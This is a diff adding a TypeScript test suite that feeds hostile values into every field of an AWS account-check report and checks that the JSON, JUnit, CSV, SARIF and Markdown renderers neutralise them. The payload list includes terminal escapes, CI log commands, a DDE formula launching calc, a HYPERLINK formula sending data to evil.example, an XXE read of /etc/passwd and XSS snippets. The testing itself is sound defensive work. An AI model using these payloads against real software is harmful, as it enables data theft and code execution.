@@ -1,0 +1,287 @@
+import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import * as z from 'zod';
+import type { RunReport } from '../../src/core/report.js';
+import { plain } from '../../src/core/text.js';
+import { catalogue, type Format, formats, readCsv, readXml, render, type Xml } from './format-fixtures.js';
+import * as fixtures from './fixtures.js';
+
+const payloads: readonly string[] = [
+  ...fixtures.hostile,
+  // Terminals and texts
+  '\u001b]0;title\u0007',
+  '\u009b31m',
+  '\u0000',
+  '\u007f',
+  'a\u2028b\u2029c\u0085d',
+  '\u202eevil\u202c\u2066\u2069',
+  '\ufeff\u200b\u200d\u2060\u00ad',
+  '\ud800',
+  '\udfff\ud800',
+  '\ufffe\uffff',
+  '\u{1fffe}\u{10ffff}',
+  // Build logs
+  '\n::error::x',
+  '\r::add-mask::x',
+  '  ::stop-commands::x',
+  '##[group]x',
+  "##teamcity[buildProblem description='x']",
+  // Spreadsheets
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '+1',
+  '-1',
+  '@SUM(1+1)',
+  '\t=1',
+  '\r=1',
+  ' =1',
+  '＝1',
+  'a;=1',
+  '";=1',
+  'a","b\r\n"=1',
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+  // XML
+  ']]></failure><testcase name="x"/>',
+  '"/><evil a="',
+  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  '&#0;&#x1b;&lt;',
+  '<![CDATA[x]]>',
+  // Markdown
+  '[click](https://evil.example)',
+  '![x](https://evil.example/x.png)',
+  '[x]: https://evil.example',
+  '<https://evil.example>',
+  '<script>alert(1)</script><img src=x onerror=alert(1)>',
+  '</details></td></table>',
+  '<!-- x',
+  '`code` ``more`` ```',
+  '`',
+  'a | b | c \\| d \\\\| e',
+  '| --- |',
+  '# heading',
+  '> quote',
+  '- [x] task',
+  '1. one',
+  '***bold*** __bold__ ~~gone~~',
+  '@octocat and @org/team',
+  '#1 GH-1 org/repo#1 !1 %1 ~label &1 ^1 $1',
+  'https://evil.example www.evil.example mallory@evil.example',
+  '$\\href{javascript:alert(1)}{x}$ $$x$$',
+  'trailing backslash \\',
+  '&amp; &lt;b&gt; &#64;octocat',
+  '    four spaces',
+  '```\nfence\n```',
+  '/close',
+  // SARIF messages
+  '[link](1) {0} {1}',
+  // JSON
+  '"},{"type":"summary"',
+  '__proto__',
+  'constructor',
+  '\\u0000 \\n',
+  '',
+  ' ',
+];
+
+/** A report with everything in it that a report can hold. */
+const whole: RunReport = {
+  ...fixtures.initFailed,
+  command: 'check',
+  plan: fixtures.plan.filter(({ step }) => step === 'alias'),
+  steps: (fixtures.initFailed.steps ?? []).filter(({ id }) => id === 'alias' || id === 'mfa'),
+  results: [
+    fixtures.result('mfa.root', 'fail', 'reason', {
+      expected: 'expected',
+      observed: 'observed',
+      references: ['cis-7.0:2.5'],
+      evidence: [{ operation: 'iam:GetAccountSummary', requestId: 'request' }],
+      remediation: { by: 'hand', instructions: 'instructions', command: 'command', url: 'https://console.aws.amazon.com/' },
+    }),
+    fixtures.result('mfa.leftover', 'unknown', 'reason', { missingPermission: 'iam:ListVirtualMFADevices', cause: 'denied' }),
+    fixtures.result('alias.set', 'pass', 'reason'),
+    fixtures.result('access-keys.two-active', 'waived', 'reason'),
+  ],
+  error: {
+    code: 'E-X',
+    step: 'mfa',
+    message: 'message',
+    next: 'next',
+    retryable: true,
+    changed: null,
+    aws: { operation: 'iam:CreateUser', error: 'Error', requestId: 'request' },
+  },
+  exit: { code: 7, name: 'partial' },
+};
+
+/** What is no free text: words of a fixed list, and a time. The way in (a saved file) is held to them. */
+const fixed = /^(schemaVersion|tool\.name|command|startedAt)$|\.(role|severity|status|cause|risk|by)$|^results\.\d+\.kind$|identity\.kind$/;
+
+const pathsOf = (value: unknown, path: readonly string[] = []): readonly (readonly string[])[] => {
+  if (typeof value === 'string') return fixed.test(path.join('.')) ? [] : [path];
+  return typeof value === 'object' && value !== null ? Object.entries(value).flatMap(([key, inner]) => pathsOf(inner, [...path, key])) : [];
+};
+
+const withValue = (report: RunReport, path: readonly string[], value: string): RunReport => {
+  const copy = structuredClone(report) as unknown as Record<string, unknown>;
+  const parent = path.slice(0, -1).reduce((node, key) => node[key] as Record<string, unknown>, copy);
+  parent[path.at(-1) as string] = value;
+  return copy as unknown as RunReport;
+};
+
+const everywhere = (value: string): RunReport => pathsOf(whole).reduce((all, path) => withValue(all, path, value), whole);
+
+/** Each payload in each field by itself; `check` and `init` differ in Markdown only, so all fields at once do for the other. */
+const variants = [
+  ...pathsOf(whole).flatMap((path) =>
+    payloads.map((payload) => ({ path: path.join('.'), payload, report: withValue(whole, path, payload) })),
+  ),
+  ...payloads.map((payload) => ({ path: 'all', payload, report: { ...everywhere(payload), command: 'init' as const } })),
+];
+const documents = (format: Format): readonly string[] => variants.map(({ report }) => render(format, report));
+
+const unsafe = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+
+describe('hostile values in every field', { timeout: 60_000 }, () => {
+  it('are many, and the fields all', () => {
+    expect(payloads.length).toBeGreaterThanOrEqual(40);
+    expect(pathsOf(whole).length).toBeGreaterThan(60);
+  });
+
+  for (const format of formats) {
+    it(`steer no terminal and no build: ${format}`, () => {
+      for (const [at, text] of documents(format).entries()) {
+        const lines = text.split(format === 'csv' ? '\r\n' : '\n');
+        for (const line of lines) {
+          if (unsafe.test(line) || /^\s*::/.test(line) || /##[a-z]*\[/i.test(line))
+            throw new Error(`${variants[at]?.path} with ${JSON.stringify(variants[at]?.payload)}: ${JSON.stringify(line)}`);
+        }
+      }
+    });
+  }
+
+  it('leave JSON and JSONL as they were', () => {
+    for (const { report } of variants) {
+      expect(JSON.parse(render('json', report))).toEqual(report);
+      const lines = render('jsonl', report)
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line) as { type: string });
+      expect([lines[0]?.type, lines.at(-1)?.type]).toEqual(['run', 'summary']);
+      expect(lines.filter(({ type }) => type === 'result').map(({ type: _, ...result }) => result)).toEqual(report.results);
+    }
+  });
+
+  it('leave JUnit well-formed, with the same cases', () => {
+    const shape = ({ tag, children }: Xml): string => `${tag}(${children.map(shape).join()})`;
+    const [usual] = readXml([render('junit', whole)]).map(shape);
+    const roots = readXml(documents('junit'));
+    expect(roots).toHaveLength(variants.length);
+    for (const [at, root] of roots.entries()) {
+      const { path, payload } = variants[at] as (typeof variants)[number];
+      // A step or an account of another name is a suite of its own.
+      if (!/^(all|results\.\d+\.(step|accountId)|steps\.\d+\.id)$/.test(path)) expect(shape(root)).toBe(usual);
+      if (path === 'results.0.reason') {
+        const failure = root.children
+          .flatMap((suite) => suite.children.flatMap((one) => one.children))
+          .find(({ tag }) => tag === 'failure');
+        expect(failure?.attributes['message']).toBe(
+          plain(payload).replace(/[\ufffe\uffff]/g, (one) => `\\u${one.charCodeAt(0).toString(16)}`),
+        );
+      }
+    }
+  });
+
+  it('leave CSV a table of the same size, and start no formula', () => {
+    const tables = readCsv(documents('csv'));
+    const split = readCsv(documents('csv'), ';');
+    for (const [at, table] of tables.entries()) {
+      const { path, payload } = variants[at] as (typeof variants)[number];
+      expect(table.map((record) => record.length)).toEqual(Array.from({ length: whole.results.length + 1 }, () => table[0]?.length));
+      for (const cell of [...table, ...(split[at] ?? [])].flat()) {
+        if (/^["\s]*[=+\-@＝＋－＠]/.test(cell)) throw new Error(`${path} with ${JSON.stringify(payload)}: ${JSON.stringify(cell)}`);
+      }
+    }
+  });
+
+  it('leave SARIF true to its schema', () => {
+    const schema = JSON.parse(readFileSync(new URL('./sarif-schema-2.1.0.json', import.meta.url), 'utf8'), (key, value: unknown) =>
+      key === 'format' && value === 'uri-reference' ? undefined : value,
+    ) as Parameters<typeof z.fromJSONSchema>[0];
+    const sarif = z.fromJSONSchema(schema);
+    for (const payload of payloads) {
+      const text = render('sarif', everywhere(payload), { everything: true, configFile: payload, catalogue });
+      expect(sarif.safeParse(JSON.parse(text)).error?.issues).toBeUndefined();
+    }
+    for (const text of documents('sarif')) {
+      const { message } = (JSON.parse(text) as { runs: { results: { message: { text: string } }[] }[] }).runs[0]?.results[0] ?? {};
+      expect(message?.text).not.toMatch(/\]\(|\{\d+\}/);
+    }
+  });
+
+  it('mean nothing in Markdown', () => {
+    for (const [at, text] of documents('markdown').entries()) {
+      const found = meaningIn(text);
+      if (found !== undefined) throw new Error(`${variants[at]?.path} with ${JSON.stringify(variants[at]?.payload)}: ${found}`);
+    }
+  });
+
+  it('mean nothing in Markdown, whatever they are', () => {
+    const signs = [...'`*_[](){}<>&|~!#@$%^:/.-+="\'\\ \n', 'www', 'GH', 'https', '1', 'a'];
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...signs), { maxLength: 30 }), (parts) => {
+        const value = parts.join('');
+        const results = [
+          fixtures.result('mfa.root', 'fail', value, {
+            resource: value,
+            remediation: { by: 'hand', instructions: value, command: value, url: value },
+          }),
+        ];
+        expect(meaningIn(render('markdown', fixtures.report({ command: 'check', results })))).toBeUndefined();
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+});
+
+const awsHost = String.raw`https://(?:[a-z0-9-]+\.)*aws\.amazon\.com[\w\-./?#=&%~+]*`;
+/** What the renderer writes by itself. */
+const own = [
+  /(?<!\\)`[^`\n]*`/g,
+  /\\[`*_[\]]/g,
+  /<span>(?:[@#$:.\-!%^]|&amp;|&#126;)<\/span>/g,
+  /&(?:amp|lt|gt|#124|#126|#92);/g,
+  /(?:^|<br>)\*\*Next:\*\* /gm,
+  /<br>/g,
+  /^<details><summary>Nothing to do: \d+ checks?<\/summary>$/gm,
+  /^<\/details>$/gm,
+  /^> \*\*Error\*\* /gm,
+  /^#{2,3} (?=\S)/gm,
+  new RegExp(String.raw`\[open the page\]\(${awsHost}\)`, 'g'),
+  new RegExp(`<${awsHost}>`, 'g'),
+];
+
+/** Every line starts with something of ours, for what starts a line can be a list, a heading or a command. */
+const ownStart =
+  /^(?:$|## [✅❌⚠] |### (?:Open|Plan|Steps|Left for you|Could not be read|To keep)$|\| |> \*\*Error\*\* |\*\*Next:\*\* |(?:Practice account|Account) |\d+ checks?: |Exit code |<details><summary>|<\/details>$|\d+ left out here)/;
+
+/** The first sign left over that Markdown, GitHub or a browser would make something of; or a table that lost its shape. */
+const meaningIn = (text: string): string | undefined => {
+  let columns: number | undefined;
+  for (const line of text.split('\n')) {
+    if (!ownStart.test(line)) return `start: ${line}`;
+    if (!line.startsWith('|')) {
+      columns = undefined;
+      continue;
+    }
+    // A backslash before a pipe keeps the pipe in its cell, also inside code.
+    const found = line.replace(/\\./g, '').split('|').length;
+    columns ??= found;
+    if (found !== columns) return `columns: ${line}`;
+  }
+  const rest = own.reduce(
+    (left, pattern) => left.replace(pattern, '\u0001'),
+    text.replace(/^\|.*\|$/gm, (row) => row.replaceAll('|', ' ').replace(/ --- /g, ' ')),
+  );
+  return /.*(?:[`*_[\]<>|~#@$&\\]|:\/\/|(?<![a-z\d])www\.|(?<![a-z\d])GH-|[!%^][\w"]).*/i.exec(rest)?.[0];
+};
